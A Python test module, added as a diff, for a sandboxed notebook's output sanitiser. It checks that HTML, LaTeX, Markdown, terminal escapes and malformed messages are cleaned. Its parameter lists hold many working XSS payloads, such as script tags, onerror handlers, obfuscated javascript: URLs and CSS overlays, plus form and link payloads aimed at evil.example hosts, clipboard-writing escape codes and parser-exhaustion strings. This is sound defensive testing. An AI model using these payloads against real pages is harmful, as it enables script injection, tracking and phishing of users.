@@ -1,0 +1,595 @@
+"""What may come out of a sandbox, seen by an attacker and by somebody who only wants a table."""
+
+from __future__ import annotations
+
+import base64
+import re
+import time
+from html.parser import HTMLParser
+from typing import Any
+from urllib.parse import urlsplit
+
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from chorus_nb.agent.wire import Message
+from chorus_nb.config import OutputPolicy
+from chorus_nb.errors import AgentProtocolError
+from chorus_nb.outputs import MAX_ERROR_LINES, OutputFilter
+from chorus_nb.sanitize import clean_html, clean_latex, clean_markdown, clean_text
+
+PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"pixels").decode()
+FORBIDDEN_TAGS = """
+    script iframe frame object embed applet form input button textarea select meta base link style svg math
+    video audio source track portal dialog template slot area map canvas marquee noscript
+"""
+ALLOWED_LINKS = {"http", "https"}
+
+
+def admit(msg_type: str, *, limit: int = 10 * 2**20, **content: Any) -> dict[str, Any] | None:
+    message = OutputFilter(OutputPolicy(max_bytes=limit), "s1-").admit(Message(msg_type=msg_type, content=content))
+    return None if message is None else message.content
+
+
+def show(**data: Any) -> dict[str, Any]:
+    """Return what is left of a display whose MIME types are written as ``text__html``."""
+    bundle = {mime.replace("__", "/"): value for mime, value in data.items()}
+    content = admit("display_data", data=bundle, metadata={})
+    return content["data"] if content else {}
+
+
+class Inspector(HTMLParser):
+    """Reads HTML the way a page would, and lists everything that could act, load or reach beyond the output."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.faults: list[str] = []
+        self.texts: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in FORBIDDEN_TAGS.split():
+            self.faults.append(f"<{tag}>")
+        for name, value in attrs:
+            self._attribute(tag, name, value or "")
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+
+    def handle_data(self, data: str) -> None:
+        self.texts.append(data)
+
+    def _attribute(self, tag: str, name: str, value: str) -> None:
+        if name.startswith(("on", "data-")) or name in {"id", "name", "srcdoc", "srcset", "ping"}:
+            self.faults.append(f"{tag} {name}")
+        if name in {"href", "action", "formaction", "xlink:href", "background", "poster", "cite"}:
+            scheme = urlsplit(re.sub(r"[\x00-\x20]", "", value)).scheme.lower()
+            if tag != "a" or scheme not in ALLOWED_LINKS:
+                self.faults.append(f"{tag} {name}={value}")
+        if name == "src" and not re.match(r"data:image/(png|jpeg|gif|svg\+xml);base64,[A-Za-z0-9+/=]+$", value):
+            self.faults.append(f"{tag} src={value}")
+        if name == "style" and re.search(
+            r"position|z-index|url|expression|behavior|import|transform|margin|@|\\", value
+        ):
+            self.faults.append(f"{tag} style={value}")
+        if name == "class" and re.search(r"jp-|lm-|modal|mathjax_process|tex2jax_process", value):
+            self.faults.append(f"{tag} class={value}")
+
+
+HTML_ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x00>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    '<img src="data:image/png;base64,' + PNG + '" onload="alert(1)">',
+    "<img src=https://tracker.example/p.gif>",
+    "<img src=//tracker.example/p.gif>",
+    "<img src=/api/contents>",
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
+    '<img src="data:image/png;base64,PHNjcmlwdD4=">',
+    '<img srcset="https://tracker.example/p.png 2x" src="data:image/png;base64,' + PNG + '">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
+    '<a href=" \x01javascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+    '<a href="vbscript:x">x</a>',
+    '<a href="file:///etc/passwd">x</a>',
+    '<a href="//evil.example">x</a>',
+    '<a href="/lab/api/kernels" ping="https://tracker.example">x</a>',
+    '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
+    "<svg onload=alert(1)>x",
+    "<svg><script>alert(1)</script></svg>x",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>x",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>x",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>x",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>x",
+    "<iframe src=javascript:alert(1)></iframe>x",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>x',
+    "<object data=javascript:alert(1)></object>x",
+    "<embed src=//evil.example/x.swf>x",
+    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
+    "<isindex action=javascript:alert(1) type=image>x",
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">x',
+    "<base href=//evil.example/>x",
+    "<link rel=stylesheet href=//evil.example/x.css>x",
+    "<style>@import '//evil.example/x.css'; body{display:none}</style>x",
+    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">log in again</div>',
+    '<div style="color:red;/**/position:/**/fixed">x</div>',
+    '<div style="p\\6fsition:fixed">x</div>',
+    '<div style="background:url(//tracker.example/p)">x</div>',
+    '<div style="background-color:url(//tracker.example/p)">x</div>',
+    '<div style="width:expression(alert(1))">x</div>',
+    '<div style="border:1px solid;margin:-900px;transform:scale(99)">x</div>',
+    "<div style=\"font-family:'x;position:fixed;'\">x</div>",
+    '<div class="jp-Dialog lm-Widget dataframe">x</div>',
+    '<div class="mathjax_process tex2jax_process">x</div>',
+    "<div data-commandlinker-command=terminal:create-new data-commandlinker-args={}>x</div>",
+    '<img name=getElementById alt=x><p id="jupyter-config-data">x</p>',
+    "<a id=jupyterapp name=defaultView>x</a>",
+    "<video><source onerror=alert(1)></video>x",
+    "<audio src=x onerror=alert(1)>x",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<body onload=alert(1)>x</body>",
+    "<table background=javascript:alert(1)><td>x</td></table>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<input autofocus onfocus=alert(1)>x",
+    "<select><template><script>alert(1)</script></template></select>x",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>',
+    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">x',
+    "<!--><img src=x onerror=alert(1)>-->x",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->x",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>x",
+    "<?xml-stylesheet href=javascript:alert(1)?>x",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>x",
+    "<plaintext><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<<img src=x onerror=alert(1)>>x",
+    "<p title='\"><script>alert(1)</script>'>x</p>",
+    "<map name=x><area href=javascript:alert(1)></map>x",
+    "<dialog open>x</dialog>",
+    "<p is=x-script slot=x contenteditable accesskey=x tabindex=0 onkeydown=alert(1)>x</p>",
+    "<button popovertarget=x>x</button><p popover>x</p>",
+]
+
+
+@pytest.mark.parametrize("attack", HTML_ATTACKS)
+def test_html_that_attacks_the_page_is_disarmed(attack: str) -> None:
+    for html in (attack, f"<div><p>before</p>{attack}<p>after</p></div>", f"<table><tr><td>{attack}"):
+        shown = show(text__html=html, text__plain="<fallback>")
+        assert shown["text/plain"] == "<fallback>"
+        inspector = Inspector(shown.get("text/html", ""))
+        assert not inspector.faults
+        assert "alert(1)</script" not in shown.get("text/html", "")
+
+
+def test_the_inspector_sees_what_it_is_there_for() -> None:
+    """The check above is worth something only if it fails on attacks that were let through."""
+    missed = [attack for attack in HTML_ATTACKS if not Inspector(attack).faults]
+    assert len(missed) < len(HTML_ATTACKS) // 4, missed
+
+
+@given(st.lists(st.sampled_from(HTML_ATTACKS), min_size=2, max_size=4), st.data())
+def test_no_mixture_of_attacks_gets_through(attacks: list[str], data: st.DataObject) -> None:
+    cut = [attack[: data.draw(st.integers(0, len(attack)))] for attack in attacks]
+    assert not Inspector(clean_html("".join(cut)) or "").faults
+
+
+TEX_ATTACKS = [
+    r"$\href{javascript:alert(1)}{x}$",
+    r"\(\url{javascript:alert(1)}\)",
+    r"$$\class{jp-Dialog}{x}$$",
+    r"\begin{equation}\style{position:fixed;top:0}{x}\end{equation}",
+    r"$\cssId{jupyter-config-data}{x}$",
+    r"$\require{html}$",
+    r"$\unicode[evil]{x41}$",
+    r"$\bbox[position:fixed]{x}$",
+    r'$\mmlToken{mi}[href="javascript:alert(1)"]{x}$',
+    r"$\def\alpha{\href}$",
+    r"$\newcommand{\x}{\href}$",
+    r"$\let\x\href$",
+    r"$\data{commandlinker-command=x}{x}$",
+    r"$\includegraphics{//tracker.example/p.png}$",
+    r"$\&#104;ref{javascript:alert(1)}{x}$",
+    r"$&#92;href{javascript:alert(1)}{x}$",
+    "$\\hr\x01ef{javascript:alert(1)}{x}$",
+]
+
+
+@pytest.mark.parametrize("attack", TEX_ATTACKS)
+def test_tex_that_attacks_the_page_is_disarmed(attack: str) -> None:
+    assert "text/latex" not in show(text__latex=attack, text__plain="x")
+    assert "text/markdown" not in show(text__markdown=attack, text__plain="x")
+    html = clean_html(f"<p>{attack}</p>") or ""
+    # MathJax reads each run of text between elements by itself.
+    commands = [name for text in Inspector(html).texts for name in re.findall(r"\\([A-Za-z]+)", text)]
+    assert set(commands) <= {"alpha", "x", "begin", "end"} - {"x"}
+
+
+@pytest.mark.parametrize("joiner", ["<!-- -->", "<blink></blink>", "<wbr>", "<script></script>"])
+def test_a_tex_command_is_not_hidden_by_what_the_sanitiser_removes(joiner: str) -> None:
+    html = clean_html(rf"<p>$\hr{joiner}ef{{javascript:alert(1)}}{{x}}$</p>") or ""
+    assert not any("\\href" in text for text in Inspector(html).texts)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        r"$\displaystyle \frac{x^{2}}{\sqrt{y}} + \int\limits_{0}^{\infty} e^{- t}\, dt$",
+        r"$$\begin{bmatrix}1 & 2\\3 & 4\end{bmatrix}$$",
+        r"\begin{align} a &= b \\ \operatorname{atan}{\left(x \right)} &= \mathbb{R} \end{align}",
+    ],
+)
+def test_tex_as_sympy_writes_it_passes_unchanged(source: str) -> None:
+    assert show(text__latex=source, text__plain="x") == {"text/latex": source, "text/plain": "x"}
+    assert "<span>" not in (clean_html(f"<p>{source}</p>") or "")
+
+
+def test_refused_tex_and_markdown_show_their_source() -> None:
+    assert show(text__latex=r"$\href{x}{y}$", text__plain="<Latex object>") == {"text/plain": r"$\href{x}{y}$"}
+    assert show(text__markdown="![x](y)", text__plain="<Markdown object>") == {"text/plain": "![x](y)"}
+
+
+MARKDOWN_ATTACKS = [
+    "<script>alert(1)</script>",
+    "a <img src=x onerror=alert(1)> b",
+    "<\x00script>alert(1)</script>",
+    "<\x1b]0;x\x07script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](\njavascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](java&#115;cript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](javascript\\:alert(1))",
+    "[x] (javascript:alert(1))",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "[x][r]\n\n[r]:\njavascript:alert(1)",
+    "[x](data:text/html,x)",
+    "[x](/lab/api)",
+    "<javascript:alert(1)>",
+    "![x](https://tracker.example/p.png)",
+    "![x][r]\n\n[r]: https://tracker.example/p.png",
+    '[x](https://a.example/$" onmouseover="alert(1)$)',
+    'https://a.example/$" onmouseover="alert(1)$',
+    '```$" onmouseover="alert(1)$\nx\n```',
+    "```mermaid\ngraph TD\n```",
+    "~~~ mermaid\ngraph TD\n~~~",
+    r"\\(\\href{javascript:alert(1)}{x}\\)",
+]
+
+
+@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
+def test_markdown_that_attacks_the_page_is_refused(attack: str) -> None:
+    assert clean_markdown(attack) is None
+    assert clean_markdown(f"# Title\n\ntext {attack} text") is None
+
+
+def test_plain_markdown_passes_unchanged() -> None:
+    text = "# Title\n\n*a* **b** `c < d` [link](https://example.org/a) and $\\alpha + x_1$\n"
+    text += "\n| a | b |\n|---|---|\n| 1 | 2 |\n"
+    assert clean_markdown(text) == text
+
+
+@pytest.mark.parametrize(
+    "mime",
+    [
+        "application/javascript",
+        "application/vnd.jupyter.widget-view+json",
+        "application/vnd.jupyter.widget-state+json",
+        "application/vnd.plotly.v1+json",
+        "application/vnd.vega.v5+json",
+        "application/pdf",
+        "application/geo+json",
+        "text/vnd.mermaid",
+        "video/mp4",
+        "image/bmp",
+        "TEXT/HTML",
+        "text/html; charset=utf-8",
+        "<script>alert(1)</script>",
+    ],
+)
+def test_other_types_are_dropped_and_named_while_their_text_stays(mime: str) -> None:
+    outputs = OutputFilter(OutputPolicy(), "s1-")
+    content = {"data": {mime: "alert(1)", "text/plain": "Figure"}, "metadata": {mime: {"isolated": True}}}
+    message = outputs.admit(Message(msg_type="display_data", content=content))
+    assert message is not None
+    assert message.content == {"data": {"text/plain": "Figure"}, "metadata": {}}
+    notice = outputs.notice() or ""
+    assert "<" not in notice
+    assert mime in notice or "an unknown type" in notice
+
+
+def test_nothing_is_said_of_a_type_that_a_picture_stands_in_for() -> None:
+    outputs = OutputFilter(OutputPolicy(), "s1-")
+    data = {"application/vnd.plotly.v1+json": {}, "image/png": PNG, "text/plain": "Figure"}
+    outputs.admit(Message(msg_type="display_data", content={"data": data, "metadata": {}}))
+    assert outputs.notice() is None
+
+
+def test_a_dataframe_looks_as_it_does_in_the_notebook() -> None:
+    frame = pd.DataFrame({"name": ["a<b", "<script>alert(1)</script>"], "n": [1, 2]})
+    shown = show(text__html=frame._repr_html_(), text__plain=str(frame))["text/html"]
+    assert '<table border="1" class="dataframe">' in shown
+    assert '<tr style="text-align: right">' in shown
+    assert "a&lt;b" in shown
+    assert "vertical-align" not in shown
+    assert "".join(Inspector(shown).texts).split() == [
+        "name",
+        "n",
+        "0",
+        "a<b",
+        "1",
+        "1",
+        "<script>alert(1)</script>",
+        "2",
+    ]
+    assert not Inspector(shown).faults
+
+
+def test_a_dataframe_with_groups_keeps_its_spans() -> None:
+    frame = pd.DataFrame({("a", "x"): [1], ("a", "y"): [2]})
+    assert 'colspan="2"' in show(text__html=frame.to_html())["text/html"]
+
+
+def test_a_link_to_the_web_opens_apart() -> None:
+    html = clean_html('<a href="https://example.org/?a=1&amp;b=2">x</a>') or ""
+    assert 'href="https://example.org/?a=1&amp;b=2"' in html
+    assert 'target="_blank"' in html
+    assert 'rel="noopener noreferrer"' in html
+
+
+def test_html_with_nothing_left_to_see_falls_back_to_text() -> None:
+    assert show(text__html="<div><script>draw()</script></div>", text__plain="Plot") == {"text/plain": "Plot"}
+    assert admit("display_data", data={"text/html": "<script>draw()</script>"}, metadata={}) is None
+
+
+def test_an_inline_picture_stays_in_html() -> None:
+    assert clean_html(f'<img width="9" src="data:image/png;base64,{PNG}">') == (
+        f'<img width="9" src="data:image/png;base64,{PNG}">'
+    )
+
+
+def test_svg_becomes_a_picture() -> None:
+    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
+    shown = show(**{"image__svg+xml": svg, "text__plain": "Graph"})
+    assert shown.keys() == {"text/html", "text/plain"}
+    assert not Inspector(shown["text/html"]).faults
+    data = shown["text/html"].partition("base64,")[2].partition('"')[0]
+    assert base64.b64decode(data).decode() == svg
+
+
+def test_a_picture_is_passed_in_canonical_base64() -> None:
+    assert show(image__png=f"{PNG[:8]}\n{PNG[8:]}\n", text__plain="x")["image/png"] == PNG
+
+
+@pytest.mark.parametrize("data", ["", "!", '"><script>', base64.b64encode(b"<svg/>").decode(), PNG[:-1], "é"])
+def test_what_is_no_picture_is_dropped(data: str) -> None:
+    assert show(image__png=data, text__plain="x") == {"text/plain": "x"}
+    assert show(image__jpeg=PNG, text__plain="x") == {"text/plain": "x"}
+
+
+def test_json_passes_in_bounds() -> None:
+    assert show(application__json={"a": [1, None]}, text__plain="x")["application/json"] == {"a": [1, None]}
+    deep: Any = 1
+    for _ in range(200):
+        deep = [deep]
+    assert show(application__json=deep, text__plain="x") == {"text/plain": "x"}
+
+
+@pytest.mark.parametrize(
+    ("text", "clean"),
+    [
+        ("\x1b[31mred\x1b[0m \x1b[1;38:2::1:2:3mbold", None),
+        ("a\tb\r\nc\b", None),
+        ("50%\r\x1b[K60%", None),
+        ("\x1b[2J\x1b[Hx", "x"),
+        ("\x1b]0;title\x07x\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "xlink"),
+        ("\x1b]52;c;cm0gLXJm\x07x", "x"),
+        ("\x1bP+q544e\x1b\\x\x1b_apc\x1b\\y\x1bcz", "xyc" + "z"),
+        ("\x9b2Jx\x00\x07\x7f\x85", "2Jx"),
+        ("\x1b[?1049hx", "x"),
+        ("\ud800x", "\ufffdx"),
+    ],
+)
+def test_text_keeps_colours_and_loses_terminal_controls(text: str, clean: str | None) -> None:
+    assert clean_text(text) == (text if clean is None else clean)
+    assert admit("stream", name="stdout", text=text) == {"name": "stdout", "text": text if clean is None else clean}
+
+
+@given(st.text(alphabet=st.sampled_from("\x1b[]m;0P\\K\x07\x9b?H\x00é\ud800x\n")))
+def test_no_control_survives_cleaning(text: str) -> None:
+    rest = re.sub(r"\x1b\[[0-9;:]*[mK]", "", clean_text(text))
+    assert not re.search(r"[\x00-\x07\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]", rest)
+
+
+def test_output_beyond_the_limit_is_counted_and_explained() -> None:
+    outputs = OutputFilter(OutputPolicy(max_bytes=10 * 2**20), "s1-")
+    messages = [Message(msg_type="stream", content={"name": "stdout", "text": "é" * 2**19}) for _ in range(100)]
+    admitted = [message for message in map(outputs.admit, messages) if message]
+    shown = sum(len(message.content["text"].encode()) for message in admitted)
+    assert 10 * 2**20 - 2**16 < shown <= 10 * 2**20
+    assert shown + outputs.dropped_bytes == pytest.approx(100 * 2**20, abs=1)
+    notice = outputs.notice() or ""
+    assert notice.startswith("[sandbox] 90 MiB of output dropped after the first 10 MiB")
+    assert 'Sandbox(max_output="100m")' in notice
+
+
+def test_a_display_beyond_the_limit_is_dropped_whole_and_named() -> None:
+    outputs = OutputFilter(OutputPolicy(max_bytes=2**20), "s1-")
+    data = {"image/png": PNG + "A" * 3 * 2**20, "text/plain": "<Figure>"}
+    message = outputs.admit(Message(msg_type="display_data", content={"data": data, "metadata": {}}))
+    assert message is not None
+    assert message.content["data"] == {"text/plain": "<Figure>"}
+    assert "image/png of 3 MiB" in (outputs.notice() or "")
+
+
+@pytest.mark.parametrize(
+    ("msg_type", "content"),
+    [
+        ("clear_output", {"wait": True}),
+        ("stream", {"name": "stdout", "text": ""}),
+        ("display_data", {"data": {"text/plain": ""}}),
+    ],
+)
+def test_a_flood_of_empty_messages_ends(msg_type: str, content: dict[str, Any]) -> None:
+    outputs = OutputFilter(OutputPolicy(max_bytes=1024), "s1-")
+    # An empty stream message costs the notebook as much as any other.
+    admitted = [outputs.admit(Message(msg_type=msg_type, content=content)) for _ in range(1000)]
+    assert sum(message is not None for message in admitted) < 100
+
+
+def test_the_first_error_is_shown_after_the_limit() -> None:
+    outputs = OutputFilter(OutputPolicy(max_bytes=1024), "s1-")
+    outputs.admit(Message(msg_type="stream", content={"name": "stdout", "text": "x" * 5000}))
+    error = Message(msg_type="error", content={"ename": "E", "evalue": "v", "traceback": ["E: v"]})
+    assert outputs.admit(error) is not None
+    assert outputs.admit(error) is None
+
+
+def test_an_error_is_cleaned_and_bounded() -> None:
+    lines = ["\x1b[31mE\x1b[0m\x1b[2J\x1b[K\r\x1b]0;x\x07"] + ["y" * 10**6] * 5000
+    error = admit("error", ename="E\x1b[2J", evalue="v" * 10**6, traceback=lines)
+    assert error is not None
+    assert error["ename"] == "E"
+    assert error["traceback"][0] == "\x1b[31mE\x1b[0m"
+    assert len(error["traceback"]) <= MAX_ERROR_LINES + 1
+    assert any("4501 parts left out" in line for line in error["traceback"])
+    assert sum(map(len, error["traceback"])) + len(error["evalue"]) < 2**19
+
+
+def test_displays_are_named_within_their_session() -> None:
+    content = {"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": "gauge"}}
+    shown = admit("display_data", **content)
+    assert shown is not None
+    assert shown["transient"] == {"display_id": "s1-gauge"}
+    assert admit("update_display_data", **content) == shown
+
+
+@pytest.mark.parametrize("display_id", ["", "a b", "x" * 200, "<script>", "a\n"])
+def test_a_strange_display_id_is_dropped(display_id: str) -> None:
+    content = {"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": display_id}}
+    assert admit("display_data", **content) == {"data": {"text/plain": "x"}, "metadata": {}}
+    assert admit("update_display_data", **content) is None
+
+
+def test_metadata_keeps_known_keys_of_known_types() -> None:
+    metadata = {
+        "image/png": {"width": 100, "height": "9px", "needs_background": "light", "alt": "plot", "onload": "x"},
+        "text/html": {"isolated": True},
+        "isolated": True,
+        "width": True,
+        "expanded": False,
+    }
+    shown = admit("display_data", data={"image/png": PNG}, metadata=metadata)
+    assert shown is not None
+    assert shown["metadata"] == {
+        "image/png": {"width": 100, "needs_background": "light", "alt": "plot"},
+        "expanded": False,
+    }
+
+
+def test_a_message_is_rebuilt_without_its_extras() -> None:
+    message = Message(
+        msg_type="execute_result",
+        content={"data": {"text/plain": "1"}, "metadata": {}, "execution_count": 3, "evil": 1},
+        metadata={"evil": 1},
+        buffers=[b"evil"],
+        parent_id="p",
+    )
+    shown = OutputFilter(OutputPolicy(), "s1-").admit(message)
+    assert shown is not None
+    assert shown.content == {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": 3}
+    assert (shown.metadata, shown.buffers, shown.parent_id) == ({}, [], "p")
+
+
+@pytest.mark.parametrize(
+    ("msg_type", "content"),
+    [
+        ("comm_open", {}),
+        ("stream", {}),
+        ("stream", {"name": "stdin", "text": "x"}),
+        ("stream", {"name": "stdout", "text": ["x"]}),
+        ("display_data", {"data": []}),
+        ("display_data", {"data": {"text/html": ["<p>"]}}),
+        ("display_data", {"data": {"image/png": 1}}),
+        ("display_data", {"data": {"text/plain": None}}),
+        ("display_data", {"data": {"application/json": float("nan")}}),
+        ("display_data", {"data": {"text/plain": "x"}, "metadata": []}),
+        ("display_data", {"data": {"text/plain": "x"}, "transient": None}),
+        ("display_data", {"data": {"text/plain": "x"}, "transient": {"display_id": 1}}),
+        ("execute_result", {"data": {"text/plain": "x"}, "execution_count": True}),
+        ("execute_result", {"data": {"text/plain": "x"}, "execution_count": -1}),
+        ("execute_result", {"data": {"text/plain": "x"}}),
+        ("clear_output", {"wait": 1}),
+        ("error", {"ename": "E", "evalue": "v", "traceback": "x"}),
+        ("error", {"ename": "E", "evalue": "v", "traceback": [1]}),
+        ("error", {"ename": None, "evalue": "v", "traceback": []}),
+    ],
+)
+def test_a_malformed_message_is_a_breach_of_the_protocol(msg_type: str, content: dict[str, Any]) -> None:
+    with pytest.raises(AgentProtocolError, match="malformed"):
+        admit(msg_type, **content)
+
+
+JSON = st.recursive(
+    st.sampled_from([None, True, 0, -1, 1.5, "", "x", "\ud800", "text/html", "image/png", "stdout"]),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
+    max_leaves=8,
+)
+KEYS = st.sampled_from(["name", "text", "data", "metadata", "transient", "ename", "evalue", "traceback", "wait"])
+
+
+@given(
+    st.sampled_from(["stream", "display_data", "update_display_data", "execute_result", "clear_output", "error"]),
+    st.dictionaries(KEYS, JSON),
+)
+def test_any_content_is_admitted_dropped_or_refused(msg_type: str, content: dict[str, Any]) -> None:
+    try:
+        admit(msg_type, **content)
+    except AgentProtocolError:
+        pass
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<div>" * 10**6,
+        "<div " + " ".join(f"a{i}=1" for i in range(10**6)) + ">",
+        '<!--<a t="-->' + "<div " + " ".join(f"a{i}" for i in range(10**6)) + '">',
+        "<div a" * 10**6,
+        '<a x="' * 10**6,
+        "<p style='color:" + " " * 10**6 + "('>x",
+        "<table>" + "<br>" * 10**6,
+        "<div>" * 4000 + "</td>" * 10**6,
+        "&aaaaaaaaaaaaaaaaaaaa;" * 10**6,
+        "<" * 10**6,
+        "<p " + " " * 10**6 + "x",
+    ],
+    ids=lambda html: html[:12],
+)
+def test_html_made_to_keep_the_parser_busy_is_given_up_soon(html: str) -> None:
+    start = time.process_time()
+    clean_html(html)
+    assert time.process_time() - start < 15  # minutes to hours where nothing is bounded
+
+
+@pytest.mark.parametrize(
+    "text", ["\x1b]" * 10**6, "\x1b[" + "1" * 10**6, "\x1bP" * 10**6, "[" * 10**6, "](" * 10**5, "`" * 10**6]
+)
+def test_text_made_to_keep_the_patterns_busy_is_done_soon(text: str) -> None:
+    start = time.process_time()
+    clean_text(text)
+    clean_markdown(text)
+    clean_latex(text)
+    assert time.process_time() - start < 15
